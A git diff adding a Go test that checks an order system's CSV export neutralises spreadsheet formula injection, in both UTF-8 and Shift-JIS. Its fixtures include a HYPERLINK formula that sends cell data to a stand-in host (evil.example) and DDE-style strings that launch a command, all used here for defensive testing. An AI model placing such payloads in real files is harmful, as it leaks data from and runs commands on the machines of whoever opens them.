@@ -11,6 +11,7 @@ import (
 
 	"golang.org/x/text/encoding/japanese"
 
+	"github.com/ichigen-oms/ichigen/internal/order"
 	"github.com/ichigen-oms/ichigen/internal/store"
 	"github.com/ichigen-oms/ichigen/internal/store/storetest"
 	"github.com/ichigen-oms/ichigen/internal/user"
@@ -93,6 +94,53 @@ func TestExportOrdersCSV(t *testing.T) {
 		w = b.do(t, viewer, http.MethodGet, "/orders/export.csv?q=nobody-has-this", nil)
 		if rows := readCSV(t, bytes.TrimPrefix(w.Body.Bytes(), []byte("\uFEFF"))); w.Code != http.StatusOK || len(rows) != 1 {
 			t.Errorf("empty search: %d, %d lines", w.Code, len(rows))
+		}
+	})
+}
+
+// TestExportNeutralisesFormulas: a buyer's text that a spreadsheet would run as a formula
+// (= + - @ tab CR first) is written with a leading ' in both encodings, so Excel shows it as
+// text; an amount stays a number even when negative.
+func TestExportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	forEngine(t, func(t *testing.T, b *testBundle) {
+		ctx := context.Background()
+		o := storetest.MakeOrders(700, 1, base)
+		o[0].Buyer.Name = `=HYPERLINK("http://evil.example/?"&A1,"詳細")`
+		o[0].Buyer.Kana = "@SUM(1+1)*cmd|' /C calc'!A0"
+		o[0].Buyer.Address = "+81 東京都港区"
+		o[0].Buyer.Phone = "-2+3+cmd|' /C calc'!A0"
+		o[0].Buyer.Zip = "\t=1+1"
+		o[0].PaymentMethod = "\r=1+1"
+		o[0].Amounts.Goods = order.YenOf(-500) // a refund-like amount is still a number
+		res, err := b.st.UpsertOrders(ctx, b.shop.ID, o, store.UpsertOptions{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		viewer := b.tokenFor(t, only(user.MenuOrders, user.View))
+		for _, enc := range []string{"utf8", "sjis"} {
+			w := b.do(t, viewer, http.MethodGet, "/orders/export.csv?enc="+enc+"&ids="+i64(res.IDs[0]), nil)
+			body := bytes.TrimPrefix(w.Body.Bytes(), []byte("\uFEFF"))
+			if enc == "sjis" {
+				if body, err = japanese.ShiftJIS.NewDecoder().Bytes(body); err != nil {
+					t.Fatal(err)
+				}
+			}
+			rows := readCSV(t, body)
+			if w.Code != http.StatusOK || len(rows) != 2 {
+				t.Fatalf("%s: %d %v", enc, w.Code, rows)
+			}
+			r := rows[1]
+			for col, want := range map[int]string{
+				4: `'=HYPERLINK("http://evil.example/?"&A1,"詳細")`, 5: "'@SUM(1+1)*cmd|' /C calc'!A0", 6: "'\t=1+1",
+				7: "'+81 東京都港区", 8: "'-2+3+cmd|' /C calc'!A0", 9: "-500", 0: i64(res.IDs[0]),
+				// encoding/csv's CRLF writer drops a lone CR: unguarded, "\r=1+1" would reach Excel as =1+1.
+				13: "'=1+1",
+			} {
+				if r[col] != want {
+					t.Errorf("%s: %s is %q, want %q", enc, rows[0][col], r[col], want)
+				}
+			}
 		}
 	})
 }
